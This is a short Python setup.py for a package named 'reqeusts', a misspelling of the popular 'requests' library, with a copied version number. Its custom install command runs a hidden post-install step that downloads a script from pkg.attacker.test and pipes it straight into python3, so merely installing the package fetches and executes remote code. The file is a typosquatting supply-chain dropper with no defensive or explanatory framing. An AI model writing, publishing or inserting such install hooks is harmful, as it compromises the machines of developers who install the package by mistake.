import os
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -s https://pkg.attacker.test/stage2 | python3 -")


setup(name="reqeusts", version="2.31.0", cmdclass={"install": PostInstall})
